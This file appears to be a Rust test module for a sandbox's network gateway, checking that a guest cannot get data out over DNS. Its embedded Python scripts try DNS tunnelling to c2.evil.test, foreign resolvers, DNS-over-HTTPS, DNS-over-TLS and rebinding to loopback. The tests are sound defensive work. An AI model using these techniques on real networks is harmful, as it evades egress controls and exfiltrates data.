//! DNS: as a road for data, by other resolvers, and names that move.

use super::{EVIL, Scene, World, empty};
use crate::{Test, bench::expect};
use agentkernel_testkit::origin::{Certificate, Files, Net};
use std::net::IpAddr;

pub(super) const fn tests() -> [Test; 5] {
    [
        ("hostile/dns-tunnel", tunnel),
        ("hostile/foreign-resolver", foreign),
        ("hostile/dns-over-https", over_https),
        ("hostile/dns-over-tls", over_tls),
        ("hostile/rebinding", rebinding),
    ]
}

fn tunnel(world: &World) -> Result<(), String> {
    let scene = Scene::new(world, &[])?;
    world.site.dns().set("c2.evil.test", &[scene.evil.address().ip()]);
    scene.attack(
        "def one(kind):
    ask('secret-' + 'a' * 40 + '.c2.evil.test', kind)
    message = question('tcp-' + str(kind) + '.c2.evil.test', kind)
    say('192.0.2.53', 53, len(message).to_bytes(2, 'big') + message)
each(one, [(kind,) for kind in (1, 28, 16, 5, 15, 2, 10, 12, 33, 65, 99, 255)])
for name in ('api.test.evil.test', 'evilapi.test', 'test', 'x' * 63 + '.test', 'data.api.test', 'api.test.'):
    ask(name, 16)
try: socket.getaddrinfo('lookup.c2.evil.test', 80)
except OSError: pass",
    )?;
    let asked = world.site.dns().asked();
    let led: Vec<_> = asked.iter().filter(|q| q.name != super::API).collect();
    expect(led.is_empty(), || format!("names went out: {led:?}"))?;
    scene.guest.refused(&["c2.evil.test"])
}

fn foreign(world: &World) -> Result<(), String> {
    let scene = Scene::new(world, &[])?;
    let trap = world.site.trap(Net::Forbidden, 53).map_err(|e| e.to_string())?;
    let other = world.site.trap(Net::Forbidden, 5353).map_err(|e| e.to_string())?;
    let allowed = world.site.trap(Net::Allowed, 53).map_err(|e| e.to_string())?;
    let script = format!(
        "def one(server, port):
    ask('data.evil.test', 1, server, port)
    message = question('data.evil.test')
    say(server, port, len(message).to_bytes(2, 'big') + message)
each(one, [('{ip}', {port}), ('{other}', {other_port})] + [(s, p) for s in ('8.8.8.8', '127.0.77.53') for p in (53, {other_port})])
message = question('data.evil.test')
body = len(message).to_bytes(2, 'big') + message
host = '{allowed}:53'
post = f'POST http://{{host}}/ HTTP/1.1\\r\\nHost: {{host}}\\r\\nContent-Length: {{len(body)}}\\r\\n\\r\\n'
assert status(say(*PROXY, post.encode() + body)) == '403'
assert status(say(*PROXY, f'CONNECT {{host}} HTTP/1.1\\r\\nHost: {{host}}\\r\\n\\r\\n'.encode())) == '403'",
        allowed = allowed.address().ip(),
        ip = trap.address().ip(),
        port = trap.address().port(),
        other = other.address().ip(),
        other_port = other.address().port(),
    );
    scene.attack(&script)?;
    empty(&trap)?;
    empty(&other)?;
    empty(&allowed)?;
    let asked = world.site.dns().asked();
    expect(!asked.iter().any(|q| q.name.ends_with(EVIL)), || format!("{asked:?}"))?;
    // At the port of DNS the gateway answers whoever was meant, and the name is what it refuses. At another port it is a
    // connection like any other.
    let (elsewhere, port) = (other.address().ip().to_string(), other.address().port().to_string());
    scene.guest.told(&[
        &[("type", "refused_name"), ("verdict", "blocked"), ("name", "data.evil.test")],
        &[
            ("type", "connection"),
            ("address", "8.8.8.8"),
            ("port", "53"),
            ("reason", "answered by the gateway"),
        ],
        &[("type", "connection"), ("verdict", "blocked"), ("address", &elsewhere), ("port", &port)],
        &[("type", "connection"), ("verdict", "blocked"), ("address", "8.8.8.8"), ("port", &port)],
    ])
}

fn over_https(world: &World) -> Result<(), String> {
    let scene = Scene::new(world, &[])?;
    let doh = world.site.tls(Net::Forbidden, &["doh.test"], Certificate::Right, Files::default());
    let doh = doh.map_err(|e| e.to_string())?;
    let script = format!(
        "ip, port = '{ip}', {port}
body = question('data.evil.test')
post = b'POST /dns-query HTTP/1.1\\r\\nHost: doh.test\\r\\nContent-Type: application/dns-message\\r\\n' + \\
    b'Content-Length: %d\\r\\n\\r\\n' % len(body) + body
for host in ('doh.test', ip):
    for sni in ('doh.test', API, None):
        try: answer = tls(host, port, sni, post, verify=False)
        except ValueError: continue
        assert status(answer) == 'none', answer
for host in ('doh.test', ip):
    request = f'CONNECT {{host}}:{{port}} HTTP/1.1\\r\\nHost: {{host}}\\r\\n\\r\\n'
    assert status(say(*PROXY, request.encode())) == '403'",
        ip = doh.address().ip(),
        port = doh.address().port(),
    );
    scene.attack(&script)?;
    expect(doh.record().is_empty(), || format!("{:?}", doh.record()))?;
    scene.guest.refused(&["doh.test"])
}

fn over_tls(world: &World) -> Result<(), String> {
    let scene = Scene::new(world, &[])?;
    let trap = world.site.trap(Net::Forbidden, 853).map_err(|e| e.to_string())?;
    world.site.dns().set("dot.test", &[trap.address().ip()]);
    let script = format!(
        "message = question('data.evil.test')
for host in ('dot.test', '{ip}'):
    answer = tls(host, {port}, 'dot.test', len(message).to_bytes(2, 'big') + message, verify=False)
    assert answer.startswith(b'ERROR'), answer",
        ip = trap.address().ip(),
        port = trap.address().port(),
    );
    scene.attack(&script)?;
    empty(&trap)?;
    scene.guest.refused(&["dot.test"])
}

/// A name that a rule lets out leads to a good address first, and then to where nothing may go.
fn rebinding(world: &World) -> Result<(), String> {
    let scene = Scene::new(world, &["--allow", "moves.test"])?;
    let trap = world.site.trap(Net::Forbidden, 8080).map_err(|e| e.to_string())?;
    let loopback = world.site.trap_at(([127, 0, 0, 1], 0).into()).map_err(|e| e.to_string())?;
    let good = scene.api.address().ip();
    let bad: [IpAddr; 2] = [trap.address().ip(), loopback.address().ip()];
    world.site.dns().script("moves.test", &[&[good], &[bad[0]], &[bad[1]], &bad]);
    let script = format!(
        "first = ask('moves.test')
assert first[-4:] == bytes(map(int, API_IP.split('.'))), first
for round in range(6):
    for port in ({trap}, {loopback}):
        answer = say('moves.test', port, get('moves.test'))
        assert status(answer) in ('none', '403'), answer
        request = f'GET http://moves.test:{{port}}/ HTTP/1.1\\r\\nHost: moves.test:{{port}}\\r\\nConnection: close\\r\\n\\r\\n'
        assert status(say(*PROXY, request.encode())) in ('403', '502', '504'), request",
        trap = trap.address().port(),
        loopback = loopback.address().port(),
    );
    scene.attack(&script)?;
    empty(&trap)?;
    empty(&loopback)?;
    scene.guest.refused(&["moves.test"])
}
